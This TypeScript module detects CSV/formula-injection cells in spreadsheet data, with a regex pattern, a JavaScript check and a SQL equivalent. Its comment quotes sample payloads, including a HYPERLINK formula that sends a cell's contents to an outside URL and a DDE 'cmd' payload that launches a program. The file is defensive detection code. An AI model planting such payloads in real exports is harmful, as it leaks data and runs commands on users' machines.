import {
  INVISIBLE,
  WHITESPACE,
  classChars,
  cleanCell,
  narrowCell,
  narrowedCellSql,
} from './clean-cell.ts';
import { SIGNED_NUMBER_PATTERN } from './number-grammar.ts';
import { regexLiteral as rx } from './sql-quote.ts';

// CSV/formula injection (OWASP): a spreadsheet evaluates a cell that starts with = or @, or with +
// or - followed by an expression, e.g. `=HYPERLINK("http://x?"&A1)`, `@SUM(1+1)`, `+SUM(1)`,
// `-2+3+cmd|' /C calc'!A0`. Spaces, tabs and invisible characters before the sign do not make it
// safe. Real exports are full of harmless text that starts with + or - ("+ button not enabled",
// "- draft", "+86 138 0013 8000") or with a stray tab: quarantining those would lose real rows, so
// + and - count only when an expression follows (a call, a reference, a sign or an operator after a
// number). Exports escape every such cell anyway (a leading quote), which is OWASP's main defence.

const LEAD = `[${classChars(WHITESPACE + INVISIBLE + '\t\r')}]*`;
const EXPRESSION_AFTER_SIGN = String.raw`[ ]*(?:[A-Za-z_][A-Za-z0-9_.]*[ ]*[(!]|[A-Za-z]{1,3}[0-9]+(?:[^A-Za-z0-9]|$)|[(+=@-]|[0-9][0-9.]*[ ]*[-+*/^&|])`;

export const FORMULA_START_PATTERN = `^${LEAD}(?:[=@]|[+-]${EXPRESSION_AFTER_SIGN})`;

const formulaStartRe = new RegExp(FORMULA_START_PATTERN, 'u');
const signedNumberRe = new RegExp(SIGNED_NUMBER_PATTERN, 'u');

export function isFormulaLike(raw: string | null): boolean {
  if (raw === null || !formulaStartRe.test(raw)) return false;
  return !signedNumberRe.test(narrowCell(cleanCell(raw)));
}

/** Boolean SQL (never NULL) over the raw staged column. */
export function isFormulaLikeSql(col: string): string {
  return (
    `coalesce(regexp_matches(${col}, ${rx(FORMULA_START_PATTERN)}) ` +
    `AND NOT regexp_full_match(${narrowedCellSql(col)}, ${rx(SIGNED_NUMBER_PATTERN)}), false)`
  );
}
